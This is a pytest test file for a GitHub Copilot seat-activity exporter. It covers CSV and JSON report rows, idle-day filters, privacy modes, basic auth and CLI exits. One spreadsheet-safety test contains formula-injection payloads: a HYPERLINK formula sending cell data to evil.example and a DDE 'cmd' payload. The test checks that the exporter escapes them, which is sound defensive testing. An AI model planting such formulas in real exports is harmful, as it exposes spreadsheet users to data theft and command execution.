"""The seat-activity report: ``report`` on the command line and ``/seats.csv`` of the running exporter."""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import bcrypt
import pytest
import yaml

from exporter.config import Target
from exporter.privacy import UserLabels
from exporter.sources.seats.model import Seat, SeatPage
from exporter.sources.seats.report import (
    SeatReport,
    build_report,
    columns_for,
    render,
    to_csv,
    to_table,
)
from exporter.sources.seats.snapshot import build_snapshot
from exporter.web.server import Exporter
from tests.fakegithub.fake_model import FakeSeat
from tests.inprocess import make_config, run_scenario, scrape
from tests.support import (
    TOKEN,
    Dataset,
    ServedFake,
    parse_exposition,
    run_exporter_cli,
    start_exporter,
    total,
)

HASH_KEY = "report-test-hash-key-0123456789"
GITHUB_COLUMNS = ["report_time", "login", "last_authenticated_at", "last_activity_at", "last_surface_used"]
EXTRA_COLUMNS = [
    "enterprise",
    "team",
    "plan_type",
    "created_at",
    "pending_cancellation_date",
    "idle_days",
    "monthly_cost_usd",
]
ALL_COLUMNS = [*GITHUB_COLUMNS, "organization", *EXTRA_COLUMNS]
TARGET_FLAGS = ["--org", "acme", "--enterprise", "acme-corp"]


def iso(moment: datetime | None) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ") if moment is not None else ""


def unix(text: str) -> float:
    return datetime.strptime(text, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC).timestamp()


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def expected_org_rows(dataset: Dataset) -> dict[str, dict[str, str]]:
    """The fake's ``acme`` seats as report rows, computed from the fake's own records."""
    rows = {}
    for seat in dataset.org.seats:
        plan = seat.plan_type or dataset.org.plan_type  # a seat without a plan is billed at the org's
        rows[seat.login] = {
            "login": seat.login,
            "last_authenticated_at": iso(seat.last_authenticated_at),
            "last_activity_at": iso(seat.last_activity_at),
            "last_surface_used": seat.last_activity_editor or "",
            "organization": "acme",
            "enterprise": "",
            "team": seat.team or "",
            "plan_type": plan,
            "created_at": iso(seat.created_at),
            "pending_cancellation_date": str(seat.pending_cancellation_date or ""),
            "monthly_cost_usd": "39.00" if plan == "enterprise" else "19.00",
        }
    return rows


def expected_enterprise_rows(dataset: Dataset) -> dict[str, dict[str, str]]:
    """``acme-corp``: one row per user; the earliest grant decides org and team, the latest activity wins."""
    by_login: dict[str, list[FakeSeat]] = {}
    for seat in dataset.enterprise.seats:
        by_login.setdefault(seat.login, []).append(seat)
    carol_b = next(s for s in by_login["carol"] if s.org == "org-b")
    frank_a = next(s for s in by_login["frank"] if s.org == "org-a")

    def row(seat: FakeSeat, org: str, team: str, **changes: str) -> dict[str, str]:
        base = {
            "login": seat.login,
            "last_authenticated_at": iso(seat.last_authenticated_at),
            "last_activity_at": iso(seat.last_activity_at),
            "last_surface_used": seat.last_activity_editor or "",
            "organization": org,
            "enterprise": "acme-corp",
            "team": team,
            "plan_type": "enterprise",
            "created_at": iso(seat.created_at),
            "pending_cancellation_date": str(seat.pending_cancellation_date or ""),
            "monthly_cost_usd": "39.00",
        }
        return base | changes

    return {
        "carol": row(carol_b, "org-b", "blue"),
        "dave": row(by_login["dave"][0], "org-a", ""),
        "erin": row(by_login["erin"][0], "", "everyone"),
        "frank": row(frank_a, "org-a", "", pending_cancellation_date="2030-01-01"),
    }


def check_idle_days(rows: list[dict[str, str]]) -> None:
    """Idle days count whole days from the last activity (or the grant) to the row's own report time."""
    for row in rows:
        since = unix(row["last_activity_at"] or row["created_at"])
        assert int(row["idle_days"]) == math.floor(unix(row["report_time"]) - since) // 86400, row


def without_times(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    return [{k: v for k, v in row.items() if k not in ("report_time", "idle_days")} for row in rows]


def poll_and_get(
    fake: ServedFake, paths: list[str], flags: dict[str, Any] | None = None, **kwargs: Any
) -> dict[str, Any]:
    """One in-process poll of acme and acme-corp, then GETs of ``paths``; also the served snapshots."""
    config = make_config(
        {"org": ["acme"], "enterprise": ["acme-corp"], "api_url": fake.url, **(flags or {})},
        env={"GITHUB_COPILOT_EXPORTER_HASH_KEY": HASH_KEY},
    )
    out: dict[str, Any] = {"config": config}

    async def scenario(exporter: Exporter) -> None:
        for path in paths:
            out[f"before {path}"] = await scrape(exporter, path, **kwargs)
        await exporter.poller.poll_once()
        scraped = await scrape(exporter, "/metrics", **kwargs)
        out["metrics"] = parse_exposition(scraped.text) if scraped.status_code == 200 else {}
        out["snapshots"] = [s.snapshot for s in exporter.state.of_source("seats")]
        for path in paths:
            out[path] = await scrape(exporter, path, **kwargs)

    run_scenario(fake.url, config, scenario)
    return out


# -- the rows --------------------------------------------------------------------------------------


def test_seats_csv_lists_every_seat_of_a_paged_org_and_every_user_of_an_enterprise_once(
    fake: ServedFake, dataset: Dataset
) -> None:
    out = poll_and_get(fake, ["/seats.csv"])
    response = out["/seats.csv"]
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="copilot-seats.csv"'
    assert response.text.startswith(",".join(ALL_COLUMNS) + "\r\n")
    rows = read_csv(response.text)
    assert len(dataset.org.seats) > 200  # three pages of 100
    org_rows = [r for r in rows if r["enterprise"] == ""]
    enterprise_rows = [r for r in rows if r["enterprise"] == "acme-corp"]
    assert {r["login"]: r for r in without_times(org_rows)} == expected_org_rows(dataset)
    assert {r["login"]: r for r in without_times(enterprise_rows)} == expected_enterprise_rows(dataset)
    check_idle_days(rows)
    # One row per user as the metrics count them.
    assert len(org_rows) == total(out["metrics"], "github_copilot_seats", org="acme", enterprise="")
    assert len(enterprise_rows) == total(out["metrics"], "github_copilot_seats", enterprise="acme-corp")
    assert {r["report_time"] for r in rows} == {
        iso(datetime.fromtimestamp(s.taken_at, UTC)) for s in out["snapshots"]
    }


def test_seats_csv_is_the_report_command_output_for_the_same_snapshot(fake: ServedFake) -> None:
    out = poll_and_get(fake, ["/seats.csv", "/seats.json"])
    report = build_report(out["snapshots"], UserLabels(out["config"]))
    assert out["/seats.csv"].content == render(report, "csv")
    assert out["/seats.json"].content == render(report, "json")
    assert out["/seats.json"].headers["content-type"] == "application/json"


def test_the_seat_report_waits_for_the_first_poll_and_never_asks_github(fake: ServedFake) -> None:
    out = poll_and_get(fake, ["/seats.csv"])
    waiting = out["before /seats.csv"]
    assert waiting.status_code == 503
    assert "org=acme" in waiting.text
    assert "enterprise=acme-corp" in waiting.text
    seat_requests = len(fake.requests_to("/copilot/billing/seats"))
    assert seat_requests > 0
    # Serving the report again reads only the snapshots.
    config = make_config({"org": ["acme"], "api_url": fake.url})

    async def scenario(exporter: Exporter) -> None:
        await exporter.poller.poll_once()
        before = len(fake.requests_to("/copilot/"))
        for _ in range(3):
            assert (await scrape(exporter, "/seats.csv")).status_code == 200
        assert len(fake.requests_to("/copilot/")) == before

    run_scenario(fake.url, config, scenario)


def test_idle_days_keeps_seats_idle_longer_sorted_longest_first(fake: ServedFake, dataset: Dataset) -> None:
    out = poll_and_get(
        fake, ["/seats.csv?idle_days=30", "/seats.json?idle_days=30", "/seats.csv?idle_days=x"]
    )
    rows = read_csv(out["/seats.csv?idle_days=30"].text)
    idle = [int(r["idle_days"]) for r in rows]
    assert idle == sorted(idle, reverse=True)
    assert min(idle) >= 30
    # acme: never used (idle since the grant 200 days ago) and idle 45 days; acme-corp: dave, erin, carol.
    org_expected = {s.login for i, s in enumerate(dataset.org.seats) if i % 10 in (0, 1)}
    assert {r["login"] for r in rows if r["enterprise"] == ""} == org_expected
    assert {r["login"] for r in rows if r["enterprise"]} == {"dave", "erin"}
    as_json = json.loads(out["/seats.json?idle_days=30"].text)
    assert [r["login"] for r in as_json] == [r["login"] for r in rows]
    assert out["/seats.csv?idle_days=x"].status_code == 400


def test_json_rows_have_every_column_and_null_where_github_has_nothing(fake: ServedFake) -> None:
    rows = json.loads(poll_and_get(fake, ["/seats.json"])["/seats.json"].text)
    dave = next(r for r in rows if r["login"] == "dave")
    assert list(dave) == ALL_COLUMNS
    assert dave["last_activity_at"] is None
    assert dave["last_surface_used"] is None
    assert dave["team"] is None
    assert dave["monthly_cost_usd"] == 39.0
    assert isinstance(dave["idle_days"], int)


# -- privacy ---------------------------------------------------------------------------------------


def test_hashed_mode_names_users_by_the_keyed_hash_of_the_metrics(fake: ServedFake, dataset: Dataset) -> None:
    out = poll_and_get(fake, ["/seats.csv", "/metrics"], {"seat_metrics": "hashed"})
    text = out["/seats.csv"].text
    labels = UserLabels(out["config"])
    logins = {s.login for s in dataset.org.seats} | {s.login for s in dataset.enterprise.seats}
    assert {r["login"] for r in read_csv(text)} == {labels(login) for login in logins}
    assert not any(f",{login}," in text for login in logins)
    # The same names as the per-seat series, so that the report joins with the metrics.
    assert f'user="{labels("carol")}"' in out["/metrics"].text


def test_off_mode_refuses_the_report_on_the_web_and_the_command_line(fake: ServedFake) -> None:
    out = poll_and_get(fake, ["/seats.csv", "/"], {"seat_metrics": "off"})
    assert out["/seats.csv"].status_code == 403
    assert "seat_metrics is off" in out["/seats.csv"].text
    assert "/seats.csv" not in out["/"].text
    asked = len(fake.requests_to("/copilot/"))
    result = run_exporter_cli(
        ["report", "--org", "acme", "--github.api-url", fake.url, "--seat-metrics", "off"],
        {"GITHUB_TOKEN": TOKEN},
    )
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.startswith("github-copilot-exporter: configuration error: seat_metrics: is off")
    assert len(fake.requests_to("/copilot/")) == asked


def test_seat_report_is_behind_basic_auth_and_linked_from_the_landing_page(
    fake: ServedFake, tmp_path: Path
) -> None:
    password_hash = bcrypt.hashpw(b"s3cret", bcrypt.gensalt(4)).decode()
    web = tmp_path / "web.yml"
    web.write_text(yaml.safe_dump({"basic_auth_users": {"finops": password_hash}}))
    anonymous = poll_and_get(fake, ["/seats.csv", "/seats.json"], {"web_config_file": str(web)})
    assert anonymous["/seats.csv"].status_code == 401
    assert anonymous["/seats.json"].status_code == 401
    assert "acme" not in anonymous["/seats.csv"].text
    signed_in = poll_and_get(
        fake, ["/seats.csv", "/"], {"web_config_file": str(web)}, auth=("finops", "s3cret")
    )
    assert signed_in["/seats.csv"].status_code == 200
    assert '<a href="/seats.csv">' in signed_in["/"].text


# -- spreadsheet safety ----------------------------------------------------------------------------


def seat(login: str, team: str = "", editor: str = "", org: str = "acme") -> Seat:
    created = datetime(2024, 1, 1, tzinfo=UTC).timestamp()
    return Seat(None, login, org, team, "business", created, None, editor, None, None)


def report_of(seats: list[Seat]) -> SeatReport:
    page = SeatPage(len(seats), tuple(seats))
    snapshot = build_snapshot(Target("org", "acme"), [page], None, {"business": 19.0}, taken_at=1.75e9)
    return build_report([snapshot], UserLabels(make_config({"org": ["acme"]})))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_escaped(start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    report = report_of([seat(f"{start}user", team=payload, editor=f"{start}cmd|' /C calc'!A0")])
    (row,) = read_csv(to_csv(report))
    assert row["login"] == f"'{start}user"
    assert row["team"] == "'" + payload
    assert row["last_surface_used"].startswith(f"'{start}cmd")


def test_commas_quotes_and_newlines_are_quoted_as_rfc_4180_says() -> None:
    team = 'Platform, "core"\nand friends'
    text = to_csv(report_of([seat("ann", team=team), seat("bob", team="plain")]))
    assert '"Platform, ""core""\nand friends"' in text
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 3
    assert [r["team"] for r in read_csv(text)] == [team, "plain"]


def test_the_table_aligns_columns_and_keeps_a_newline_in_a_team_on_its_row() -> None:
    report = report_of([seat("ann", team="line\nbreak"), seat("a-much-longer-login")])
    lines = to_table(report).splitlines()
    assert len(lines) == 3
    header, *rows = lines
    assert header.split() == list(report.columns)
    start = header.index("last_authenticated_at")
    assert all(row[start - 2 : start] == "  " for row in rows)
    assert "line break" in rows[1]  # ann, after a-much-longer-login


def test_columns_follow_githubs_report_and_add_organization_only_where_needed() -> None:
    assert columns_for([Target("org", "acme")]) == (*GITHUB_COLUMNS, *EXTRA_COLUMNS)
    assert columns_for([Target("enterprise", "e")]) == tuple(ALL_COLUMNS)
    assert columns_for([Target("org", "a"), Target("org", "b")]) == tuple(ALL_COLUMNS)


def test_pending_cancellation_stays_a_date_and_times_are_utc() -> None:
    cancelled = Seat(
        7,
        "ann",
        "acme",
        "",
        "business",
        datetime(2024, 1, 1, 12, tzinfo=UTC).timestamp(),
        datetime(2024, 6, 1, 8, 30, tzinfo=UTC).timestamp(),
        "vscode/1/copilot/1",
        None,
        datetime.combine(date(2030, 1, 1), datetime.min.time(), UTC).timestamp(),
    )
    (row,) = report_of([cancelled]).rows
    assert row["created_at"] == "2024-01-01T12:00:00Z"
    assert row["last_activity_at"] == "2024-06-01T08:30:00Z"
    assert row["pending_cancellation_date"] == "2030-01-01"
    assert row["last_authenticated_at"] is None


# -- the command -----------------------------------------------------------------------------------


def report_cli(fake: ServedFake, *args: str, env: dict[str, str] | None = None) -> Any:
    return run_exporter_cli(
        ["report", *TARGET_FLAGS, "--github.api-url", fake.url, *args],
        {"GITHUB_TOKEN": TOKEN, **(env or {})},
        timeout=60,
    )


@pytest.mark.e2e
def test_report_command_prints_the_rows_the_running_exporter_serves(
    fake: ServedFake, dataset: Dataset
) -> None:
    result = report_cli(fake)
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    printed = read_csv(result.stdout)
    check_idle_days(printed)
    with start_exporter([*TARGET_FLAGS, "--github.api-url", fake.url], {"GITHUB_TOKEN": TOKEN}) as running:
        served = running.get("/seats.csv")
        landing = running.get("/").text
    assert served.status_code == 200
    assert '<a href="/seats.csv">' in landing
    assert without_times(read_csv(served.text)) == without_times(printed)
    assert len(printed) == len(dataset.org.seats) + 4


@pytest.mark.e2e
def test_report_command_formats_filters_and_writes_a_file(fake: ServedFake, tmp_path: Path) -> None:
    output = tmp_path / "idle.json"
    result = report_cli(fake, "--format", "json", "--idle-days", "30", "--output", str(output))
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    rows = json.loads(output.read_text())
    assert rows
    assert all(r["idle_days"] >= 30 for r in rows)
    assert [r["idle_days"] for r in rows] == sorted((r["idle_days"] for r in rows), reverse=True)
    table = report_cli(
        fake,
        "--format",
        "table",
        "--seat-metrics",
        "hashed",
        env={"GITHUB_COPILOT_EXPORTER_HASH_KEY": HASH_KEY},
    )
    assert table.returncode == 0, table.stderr
    assert table.stdout.split("\n", 1)[0].split() == ALL_COLUMNS
    assert "carol" not in table.stdout


@pytest.mark.e2e
@pytest.mark.parametrize(
    "args",
    [["--format", "xml"], ["--idle-days", "-1"], ["--idle-days", "soon"], ["--poll-interval", "10s"]],
)
def test_report_command_exits_2_on_bad_arguments(fake: ServedFake, args: list[str]) -> None:
    result = report_cli(fake, *args)
    assert result.returncode == 2
    assert result.stdout == ""
    assert not fake.requests_to("/copilot/")


@pytest.mark.e2e
def test_report_command_exits_1_with_the_reason_and_hint_when_github_fails(
    fake: ServedFake, tmp_path: Path
) -> None:
    output = tmp_path / "seats.csv"
    result = report_cli(fake, "--output", str(output), env={"GITHUB_TOKEN": "ghp_wrong_token_0123456789"})
    assert result.returncode == 1
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("github-copilot-exporter: report failed: org=acme: unauthorized: ")
    assert "replace GITHUB_TOKEN or the token file" in lines[0]
    assert "ghp_wrong_token" not in result.stderr
    assert not output.exists()


@pytest.mark.e2e
def test_flags_alone_still_serve(fake: ServedFake) -> None:
    with start_exporter(["--org", "acme", "--github.api-url", fake.url], {"GITHUB_TOKEN": TOKEN}) as running:
        assert running.get("/metrics").status_code == 200
